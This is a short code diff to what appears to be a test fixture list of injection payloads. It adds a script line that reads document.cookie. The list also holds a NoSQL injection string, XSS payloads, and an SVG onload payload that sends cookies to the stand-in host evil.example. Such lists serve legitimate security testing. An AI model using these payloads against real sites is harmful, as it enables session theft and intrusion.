@@ -60,6 +60,7 @@ export const INJECTIONS: readonly string[] = [
   "' && this.password.match(/.*/)//+%00",
   // scripts
   '<script>alert(document.cookie)</script>',
+  '<script>token=document.cookie</script>',
   '"><img src=x onerror=alert(1)>',
   "<svg/onload=fetch('//evil.example/'+document.cookie)>",
   'javascript:alert(1)//',
